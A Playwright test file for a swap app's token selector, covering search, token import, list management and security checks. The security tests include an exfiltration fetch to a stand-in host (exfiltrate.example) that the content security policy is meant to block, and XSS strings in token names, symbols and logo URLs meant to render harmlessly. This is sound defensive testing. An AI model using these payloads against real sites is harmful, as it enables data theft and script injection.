import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import type { Frame, Page, Route } from '@playwright/test'
import { expect, test } from './fixtures.ts'
import { type connectWallet, expectConnected } from './support/app.ts'
import { deployment } from './support/deployment.ts'

const MKR = deployment.tokens.MKR
const DAI = deployment.tokens.DAI
const ENS_LIST = deployment.ens.tokenList
const LIST_BYTES = readFileSync(
  resolve(import.meta.dirname, '../../devchain', '../', deployment.tokenListPath),
)

const json = (body: unknown) => ({ status: 200, contentType: 'application/json', body: JSON.stringify(body) })
const DEEP = `${'['.repeat(5000)}${']'.repeat(5000)}`

function list(name: string, tokens: unknown[], extra: Record<string, unknown> = {}) {
  return {
    name,
    timestamp: '2021-01-01T00:00:00.000Z',
    version: { major: 1, minor: 0, patch: 0 },
    tokens,
    ...extra,
  }
}

async function openSelector(page: Page, side: 'From' | 'To') {
  await page.getByTestId(`currency-select-${side.toLowerCase()}`).click()
  const dialog = page.getByRole('dialog', { name: 'Select a token' })
  await expect(dialog).toBeVisible()
  return dialog
}

async function openManage(page: Page) {
  const dialog = await openSelector(page, 'To')
  await dialog.getByRole('button', { name: 'Manage' }).click()
  return page.getByRole('dialog', { name: 'Manage' })
}

async function start(page: Page, wallet: Parameters<typeof connectWallet>[1]) {
  wallet.authorizeSite()
  await page.goto('/#/swap')
  await expectConnected(page, wallet)
}

test.describe('token lists without a wallet', () => {
  test('are fetched as soon as the app has a chain to read, before any wallet is connected', async ({
    page,
  }) => {
    const fetched = page.waitForRequest(
      (request) => request.url() === 'https://tokens.coingecko.com/uniswap/all.json',
    )
    await page.goto('/#/swap')
    await fetched
    await expect(page.getByRole('button', { name: 'Connect to a wallet' })).toBeVisible()
  })
})

test.describe('token selector: search', () => {
  test('searches the devchain list, puts ETH first for "e", says "No results found." and picks on Enter', async ({
    page,
    wallet,
  }) => {
    await start(page, wallet)
    const dialog = await openSelector(page, 'To')
    const search = dialog.getByRole('textbox', { name: 'Search name or paste address' })
    await expect(dialog.getByTestId(`token-row-${DAI.address}`)).toBeVisible()
    await search.fill('e')
    await expect(dialog.getByTestId('currency-list').locator('[data-row]').first()).toContainText('ETH')
    await search.fill('zzzz')
    await expect(dialog.getByText('No results found.')).toBeVisible()
    await search.fill('usd coin')
    await expect(dialog.getByTestId('currency-list')).toContainText('USDC')
    await search.fill('DAI')
    await search.press('Enter')
    await expect(page.getByRole('dialog')).toHaveCount(0)
    await expect(page.getByTestId('currency-select-to')).toContainText('DAI')
    await expect(page.getByTestId('balance-to')).toContainText(/Balance: [\d,.]+/)
  })

  test('keeps its height while typing: the search field stays put from the whole list to no result', async ({
    page,
    wallet,
  }) => {
    await start(page, wallet)
    const dialog = await openSelector(page, 'To')
    const search = dialog.getByRole('textbox', { name: 'Search name or paste address' })
    await expect(dialog.getByTestId(`token-row-${DAI.address}`)).toBeVisible()
    const place = async () => ({
      fieldTop: (await search.boundingBox())?.y,
      dialog: await dialog.boundingBox(),
    })
    const before = await place()
    const viewport = page.viewportSize()?.height ?? 0
    // Spec 1 §9: modal heights 80 to 90 percent (at most 620 px on a tall screen).
    expect(before.dialog?.height).toBeGreaterThanOrEqual(Math.min(0.78 * viewport, 600))
    expect(before.dialog?.height).toBeLessThanOrEqual(Math.min(0.9 * viewport, 640))
    await search.fill('zzzz')
    await expect(dialog.getByText('No results found.')).toBeVisible()
    expect(await place()).toEqual(before)
    await search.fill('usd coin')
    await expect(dialog.getByTestId(`token-row-${deployment.tokens.USDC.address}`)).toBeVisible()
    expect(await place()).toEqual(before)
    // The footer stays at the dialog's bottom: the results take the room between.
    const manage = await dialog.getByRole('button', { name: 'Manage' }).boundingBox()
    const box = before.dialog
    expect((manage?.y ?? 0) + (manage?.height ?? 0)).toBeGreaterThan((box?.y ?? 0) + (box?.height ?? 0) - 60)
  })

  test('a common base chip selects in one click; choosing the other side swaps them', async ({
    page,
    wallet,
  }) => {
    await start(page, wallet)
    let dialog = await openSelector(page, 'To')
    await dialog.getByTestId('common-bases').getByRole('button', { name: 'USDC' }).click()
    await expect(page.getByTestId('currency-select-to')).toContainText('USDC')
    dialog = await openSelector(page, 'From')
    await dialog.getByTestId('common-bases').getByRole('button', { name: 'USDC' }).click()
    await expect(page.getByTestId('currency-select-from')).toContainText('USDC')
    await expect(page.getByTestId('currency-select-to')).toContainText('ETH')
  })
})

test.describe('token selector: import token', () => {
  test('an address on no list is read on-chain, imported with the warnings and kept per chain', async ({
    page,
    wallet,
  }) => {
    await start(page, wallet)
    const dialog = await openSelector(page, 'To')
    await dialog.getByRole('textbox', { name: 'Search name or paste address' }).fill(MKR.address)
    await expect(dialog.getByTestId('token-lookup')).toContainText('MKR')
    await dialog.getByTestId('token-lookup').getByRole('button', { name: 'Import' }).click()
    const importDialog = page.getByRole('dialog', { name: 'Import a token' })
    await expect(
      importDialog.getByText(
        "This token doesn't appear on the active token list(s). Make sure this is the token that you want to trade.",
      ),
    ).toBeVisible()
    await expect(importDialog.getByText('Unknown Source')).toBeVisible()
    await expect(importDialog.getByText('Import at your own risk')).toBeVisible()
    await expect(importDialog.getByTestId('unknown-token')).toContainText(MKR.address)
    await expect(importDialog).not.toContainText(/imported/i)
    // The same warning as for a token named by a link: Import waits for 'I understand'.
    const importButton = importDialog.getByRole('button', { name: 'Import' })
    await expect(importButton).toBeDisabled()
    await importDialog.getByLabel('I understand').check()
    await importButton.click()
    await expect(page.getByTestId('currency-select-to')).toContainText('MKR')

    await page.reload()
    await expect(page.getByTestId('web3-status')).toHaveText('alice.eth')
    const manage = await openManage(page)
    await manage.getByRole('tab', { name: 'Tokens' }).click()
    await expect(manage.getByText('1 Custom Tokens')).toBeVisible()
    await expect(manage.getByText(MKR.address)).toBeVisible()
    await manage.getByRole('button', { name: 'Remove MKR' }).click()
    await expect(manage.getByText('0 Custom Tokens')).toBeVisible()
  })

  test("manage tokens says 'Enter valid token address' and looks up a valid one", async ({
    page,
    wallet,
  }) => {
    await start(page, wallet)
    const manage = await openManage(page)
    await manage.getByRole('tab', { name: 'Tokens' }).click()
    const input = manage.getByRole('textbox', { name: 'Token address' })
    await input.fill('0x1234')
    await expect(manage.getByText('Enter valid token address')).toBeVisible()
    await input.fill(MKR.address)
    await manage.getByTestId('token-lookup').getByRole('button', { name: 'Import' }).click()
    await expect(page.getByRole('dialog', { name: 'Import a token' })).toBeVisible()
    await page.getByRole('button', { name: 'Back' }).click()
    await expect(page.getByRole('dialog', { name: 'Manage' })).toBeVisible()
  })
})

test.describe('token selector: manage lists', () => {
  test('adds tokens.devchain.eth by ENS: contenthash on the local chain, list from the gateway', async ({
    page,
    wallet,
  }) => {
    let gatewayHits = 0
    await page.route(`https://cloudflare-ipfs.com/ipfs/${ENS_LIST.cid}/`, (route) => {
      gatewayHits++
      return route.fulfill({ status: 200, contentType: 'application/json', body: LIST_BYTES })
    })
    await start(page, wallet)
    const manage = await openManage(page)
    await manage.getByRole('textbox', { name: 'Add list by URL' }).fill('not a list')
    await expect(manage.getByText('Enter valid list location')).toBeVisible()
    await manage.getByRole('textbox', { name: 'Add list by URL' }).fill(ENS_LIST.name)
    await expect(manage.getByTestId('list-preview')).toContainText('Devchain Default')
    await manage.getByTestId('list-preview').getByRole('button', { name: 'Import' }).click()
    const importList = page.getByRole('dialog', { name: 'Import List' })
    await expect(
      importList.getByText('If you purchase a token from this list, you may not be able to sell it back.'),
    ).toBeVisible()
    const importButton = importList.getByRole('button', { name: 'Import' })
    await expect(importButton).toBeDisabled()
    await importList.getByLabel('I understand').check()
    await importButton.click()
    const back = page.getByRole('dialog', { name: 'Manage' })
    await expect(back.getByTestId(`list-row-${ENS_LIST.name}`)).toHaveAttribute('data-active', 'true')
    expect(gatewayHits).toBeGreaterThanOrEqual(2)
  })

  test("shows 'Error importing list' under Import when the list fails, and drops it", async ({
    page,
    wallet,
  }) => {
    const url = 'https://lists.example/flaky.json'
    let calls = 0
    await page.route(url, (route) => {
      calls++
      return calls === 1
        ? route.fulfill(
            json(
              list('Flaky', [
                { chainId: 31337, address: MKR.address, symbol: 'MKR', name: 'Maker', decimals: 18 },
              ]),
            ),
          )
        : route.fulfill({ status: 500, body: 'down' })
    })
    await start(page, wallet)
    const manage = await openManage(page)
    await manage.getByRole('textbox', { name: 'Add list by URL' }).fill(url)
    await manage.getByTestId('list-preview').getByRole('button', { name: 'Import' }).click()
    const importList = page.getByRole('dialog', { name: 'Import List' })
    await importList.getByLabel('I understand').check()
    await importList.getByRole('button', { name: 'Import' }).click()
    await expect(importList.getByText('Error importing list')).toBeVisible()
    await page.getByRole('button', { name: 'Back' }).click()
    await expect(page.getByTestId(`list-row-${url}`)).toHaveCount(0)
  })

  test('toggles a list and removes one only after typing REMOVE', async ({ page, wallet }) => {
    const url = 'https://lists.example/extra.json'
    await page.route(url, (route) =>
      route.fulfill(
        json(
          list('Extra', [
            { chainId: 31337, address: MKR.address, symbol: 'MKR', name: 'Maker', decimals: 18 },
          ]),
        ),
      ),
    )
    await start(page, wallet)
    let manage = await openManage(page)
    await manage.getByRole('textbox', { name: 'Add list by URL' }).fill(url)
    await manage.getByTestId('list-preview').getByRole('button', { name: 'Import' }).click()
    await page.getByLabel('I understand').check()
    await page.getByRole('dialog', { name: 'Import List' }).getByRole('button', { name: 'Import' }).click()
    manage = page.getByRole('dialog', { name: 'Manage' })
    const row = manage.getByTestId(`list-row-${url}`)
    await expect(row).toHaveAttribute('data-active', 'true')
    await row.getByRole('switch', { name: 'Enable Extra' }).click()
    await expect(row).toHaveAttribute('data-active', 'false')

    // A token of an inactive list shows in search, marked, with Import.
    await page.getByRole('button', { name: 'Back' }).click()
    const search = page.getByRole('dialog', { name: 'Select a token' })
    await search.getByRole('textbox', { name: 'Search name or paste address' }).fill('Maker')
    await expect(search.getByText('Expanded results from inactive Token Lists')).toBeVisible()
    await expect(search.getByTestId(`inactive-token-${MKR.address}`)).toContainText(
      'from inactive list Extra',
    )
    await search.getByRole('button', { name: 'Manage' }).click()

    await row.getByRole('button', { name: 'Remove list' }).click()
    const confirm = row.getByRole('textbox', { name: 'Type REMOVE to confirm removing Extra' })
    await confirm.fill('remove')
    await expect(row.getByRole('button', { name: 'Remove', exact: true })).toBeDisabled()
    await confirm.fill('REMOVE')
    await row.getByRole('button', { name: 'Remove', exact: true }).click()
    await expect(row).toHaveCount(0)
  })
})

test.describe('token selector: lists from hosts the app does not list', () => {
  const policyOf = (frame: Frame) =>
    frame.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
  const directive = (policy: string | null, name: string) =>
    (policy ?? '')
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .find(([first]) => first === name)
      ?.slice(1) ?? []

  test('imports a list by URL through the hidden list-import page; the app page never connects to its host', async ({
    page,
    wallet,
  }) => {
    const url = 'https://lists.example/by-url.json'
    const requesters: string[] = []
    await page.route(url, (route) => {
      requesters.push(route.request().frame().url())
      return route.fulfill(
        json(
          list('By URL', [
            { chainId: 31337, address: MKR.address, symbol: 'MKR', name: 'Maker', decimals: 18 },
          ]),
        ),
      )
    })
    await start(page, wallet)
    // The app's own policy lists its hosts one by one; nothing is framed before a list from elsewhere is asked for.
    const appConnect = directive(await policyOf(page.mainFrame()), 'connect-src')
    expect(appConnect).toContain("'self'")
    expect(appConnect).not.toContain('https:')
    expect(appConnect).not.toContain('*')
    await expect(page.getByTestId('list-import-frame')).toHaveCount(0)

    const manage = await openManage(page)
    await manage.getByRole('textbox', { name: 'Add list by URL' }).fill(url)
    await expect(manage.getByTestId('list-preview')).toContainText('By URL')
    await manage.getByTestId('list-preview').getByRole('button', { name: 'Import' }).click()
    const importList = page.getByRole('dialog', { name: 'Import List' })
    await importList.getByLabel('I understand').check()
    await importList.getByRole('button', { name: 'Import' }).click()
    await expect(page.getByRole('dialog', { name: 'Manage' }).getByTestId(`list-row-${url}`)).toHaveAttribute(
      'data-active',
      'true',
    )

    // Preview and import were both downloaded by the list-import page, under its own policy, with one script.
    expect(requesters.length).toBeGreaterThanOrEqual(2)
    for (const requester of requesters) expect(new URL(requester).pathname).toMatch(/\/list-import\.html$/)
    await expect(page.getByTestId('list-import-frame')).toHaveCount(1)
    const importPage = page.frames().find((frame) => frame.url().endsWith('/list-import.html'))
    if (!importPage) throw new Error('the list-import page is not framed')
    const importPolicy = await policyOf(importPage)
    expect(directive(importPolicy, 'connect-src')).toEqual(['https:'])
    expect(directive(importPolicy, 'default-src')).toEqual(["'none'"])
    expect(
      await importPage.locator('script').evaluateAll((scripts) => scripts.map((s) => s.getAttribute('src'))),
    ).toEqual([expect.stringMatching(/^\.\/assets\/listImport-[0-9a-f]+\.js$/)])

    // Its tokens are the app's now.
    await page.getByRole('button', { name: 'Back' }).click()
    const search = page.getByRole('dialog', { name: 'Select a token' })
    await search.getByRole('textbox', { name: 'Search name or paste address' }).fill('Maker')
    await expect(search.getByTestId(`token-row-${MKR.address}`)).toContainText('MKR')
  })

  test('a script in the app page cannot reach a host the policy does not list', async ({
    page,
    pageProblems,
  }) => {
    const reached: string[] = []
    page.on('request', (request) => {
      if (request.url().startsWith('https://exfiltrate.example/')) reached.push(request.url())
    })
    await page.goto('/#/swap')
    await expect(page.getByRole('button', { name: 'Connect to a wallet' })).toBeVisible()
    const outcome = await page.evaluate(() =>
      fetch('https://exfiltrate.example/?secret=1').then(
        () => 'connected',
        (error: unknown) => String(error),
      ),
    )
    expect(outcome).toContain('Failed to fetch')
    // (A cross-origin URL may be reported as its origin alone.)
    const refusal = 'connect-src blocked https://exfiltrate.example'
    await expect.poll(() => pageProblems.some((problem) => problem.includes(refusal))).toBe(true)
    expect(reached).toEqual([])
    // The policy's refusal is the point of this test; any other problem still fails it.
    const others = pageProblems.filter((problem) => !problem.includes(refusal))
    pageProblems.length = 0
    pageProblems.push(...others)
  })
})

test.describe('token safety', () => {
  const HOSTILE_SYMBOL = '<svg/onload=alert()>'
  const HOSTILE_NAME = '<script>window.__pwned=1</script>'

  test('a hostile list that passes the schema is shown as text, with no javascript: logo and no script run', async ({
    page,
    wallet,
  }) => {
    const url = 'https://hostile.example/list.json'
    const tokens = [
      {
        chainId: 31337,
        address: MKR.address,
        symbol: HOSTILE_SYMBOL,
        name: HOSTILE_NAME,
        decimals: 18,
        logoURI: 'javascript:window.__pwned=1',
        tags: ['evil'],
      },
      {
        chainId: 999,
        address: '0x000000000000000000000000000000000000dEaD',
        symbol: 'WRONG',
        name: 'Wrong Chain',
        decimals: 18,
      },
      {
        chainId: 31337,
        address: '0xA85233C63B9EE964ADD6F2CFFE00FD84EB32338f',
        symbol: 'BADSUM',
        name: 'Bad Checksum',
        decimals: 18,
      },
    ]
    const tags = { evil: { name: 'img onerror', description: 'tag' } }
    await page.route(url, (route) => route.fulfill(json(list('Hostile', tokens, { tags }))))
    await start(page, wallet)
    const manage = await openManage(page)
    await manage.getByRole('textbox', { name: 'Add list by URL' }).fill(url)
    await expect(manage.getByTestId('list-preview')).toContainText('2 tokens')
    await manage.getByTestId('list-preview').getByRole('button', { name: 'Import' }).click()
    await page.getByLabel('I understand').check()
    await page.getByRole('dialog', { name: 'Import List' }).getByRole('button', { name: 'Import' }).click()
    await page.getByRole('button', { name: 'Back' }).click()
    const search = page.getByRole('dialog', { name: 'Select a token' })
    await search.getByRole('textbox', { name: 'Search name or paste address' }).fill(MKR.address)
    const row = search.getByTestId(`token-row-${MKR.address}`)
    await expect(row).toContainText(HOSTILE_SYMBOL)
    await expect(row).toContainText(HOSTILE_NAME)
    await expect(row).toContainText('img onerror')
    await expect(row.locator('img')).toHaveCount(0)
    await search.getByRole('textbox', { name: 'Search name or paste address' }).fill('Wrong')
    await expect(search.getByText('No results found.')).toBeVisible()
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined()
  })

  for (const [what, body, message] of [
    [
      'script in the list name',
      list('<script>window.__pwned=1</script>', [
        { chainId: 31337, address: MKR.address, symbol: 'MKR', name: 'Maker', decimals: 18 },
      ]),
      'Token list failed validation',
    ],
    [
      'deep nesting',
      list('Deep', [
        {
          chainId: 31337,
          address: MKR.address,
          symbol: 'MKR',
          name: 'Maker',
          decimals: 18,
          extensions: { deep: 'DEEP' },
        },
      ]),
      'Token list failed validation',
    ],
  ] as const) {
    test(`a list with ${what} is refused with '${message}'`, async ({ page, wallet }) => {
      const url = `https://hostile.example/${what.replace(/\W+/g, '-')}.json`
      await page.route(url, (route) =>
        route.fulfill({ ...json(body), body: JSON.stringify(body).replace('"DEEP"', DEEP) }),
      )
      await start(page, wallet)
      const manage = await openManage(page)
      await manage.getByRole('textbox', { name: 'Add list by URL' }).fill(url)
      await expect(manage.getByRole('alert')).toContainText(message)
      await expect(manage.getByTestId('list-preview')).toHaveCount(0)
    })
  }

  test('a 50 MB list is refused and javascript: list URLs are not lists', async ({ page, wallet }) => {
    const url = 'https://hostile.example/huge.json'
    const huge = Buffer.alloc(50 * 1024 * 1024, 0x20)
    // Handing 50 MB to the page takes the test harness seconds (more on a busy machine); the app's refusal
    // comes once the response reaches it. So: wait for the delivery itself, as long as the test allows, then
    // for the message, at the usual pace.
    let delivered: () => void = () => {}
    const served = new Promise<void>((resolve) => {
      delivered = resolve
    })
    await page.route(url, async (route: Route) => {
      await route.fulfill({ status: 200, contentType: 'application/json', body: huge })
      delivered()
    })
    test.setTimeout(120_000)
    await start(page, wallet)
    const manage = await openManage(page)
    const input = manage.getByRole('textbox', { name: 'Add list by URL' })
    await input.fill(url)
    await served
    await expect(manage.getByRole('alert')).toContainText(`Failed to download list ${url}`)
    await input.fill('javascript:alert(1)')
    await expect(manage.getByText('Enter valid list location')).toBeVisible()
  })
})
